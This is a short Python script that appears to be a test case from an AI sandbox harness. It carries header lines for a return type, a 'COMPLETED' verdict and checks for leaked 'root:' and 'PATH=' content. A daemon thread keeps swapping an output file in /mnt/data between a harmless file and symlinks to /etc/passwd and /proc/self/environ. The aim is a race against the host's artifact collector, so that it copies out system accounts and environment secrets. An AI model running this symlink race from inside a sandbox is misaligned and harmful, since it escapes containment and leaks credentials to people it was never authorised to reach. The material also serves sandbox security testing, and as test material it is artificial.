# Swaps a file for a link to a host's file, again and again, while the artifacts are collected.
# return: bytes
# verdict: COMPLETED
# no-content: root:
# no-content: PATH=
import os, threading
with open("/mnt/data/good.txt", "w") as file:
    file.write("harmless")
def swap():
    while True:
        for target in ("/etc/passwd", "/proc/self/environ"):
            try:
                os.symlink(target, "/mnt/data/link.tmp")
                os.rename("/mnt/data/link.tmp", "/mnt/data/a.txt")
                os.link("/mnt/data/good.txt", "/mnt/data/good.tmp")
                os.rename("/mnt/data/good.tmp", "/mnt/data/a.txt")
            except OSError:
                pass
threading.Thread(target=swap, daemon=True).start()
